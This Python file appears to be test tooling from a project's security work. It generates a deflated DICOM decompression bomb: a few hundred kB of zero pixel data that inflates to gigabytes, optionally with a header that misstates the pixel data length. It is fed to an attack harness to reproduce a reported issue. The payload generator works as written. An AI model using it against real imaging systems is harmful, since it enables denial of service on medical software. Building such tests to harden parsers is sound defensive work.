"""Builds a Deflated Explicit VR Little Endian DICOM whose pixel data is zeros: a few hundred kB on disk
that inflate to gigabytes (the decompression bomb of issue 18). The zeros are streamed into the
compressor, so building one costs little memory. The attack harness (attack.py) sends it; docs/security.md
reproduces its figure with it."""

from __future__ import annotations

import struct
import zlib

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.filebase import DicomBytesIO
from pydicom.filewriter import write_dataset, write_file_meta_info
from pydicom.uid import DeflatedExplicitVRLittleEndian, SecondaryCaptureImageStorage, generate_uid

CHUNK = 2**20


def deflated_zero_dicom(
    rows: int = 4000, columns: int = 4000, frames: int = 30, bits: int = 16, pixel_bytes: int | None = None
) -> bytes:
    """A deflated DICOM of `frames` frames of rows x columns zeros at `bits` bits; `pixel_bytes` makes the
    pixel data that long instead (a header that lies about its pixel data)."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = SecondaryCaptureImageStorage
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    meta.ImplementationClassUID = generate_uid()
    head = DicomBytesIO()
    head.write(b"\x00" * 128 + b"DICM")
    write_file_meta_info(head, meta, enforce_standard=True)
    ds = Dataset()
    ds.SOPClassUID, ds.SOPInstanceUID = meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID
    ds.Modality = "CR"
    ds.Rows, ds.Columns, ds.NumberOfFrames = rows, columns, str(frames)
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = bits, bits, bits - 1, 0
    body = DicomBytesIO()
    body.is_little_endian, body.is_implicit_VR = True, False
    write_dataset(body, ds)
    length = rows * columns * frames * bits // 8 if pixel_bytes is None else pixel_bytes
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    parts = [
        head.getvalue(),
        compressor.compress(body.getvalue()),
        compressor.compress(struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OW" if bits > 8 else b"OB", 0, length)),
    ]
    zeros = bytes(CHUNK)
    for start in range(0, length, CHUNK):
        parts.append(compressor.compress(zeros[: min(CHUNK, length - start)]))
    parts.append(compressor.flush())
    return b"".join(parts)
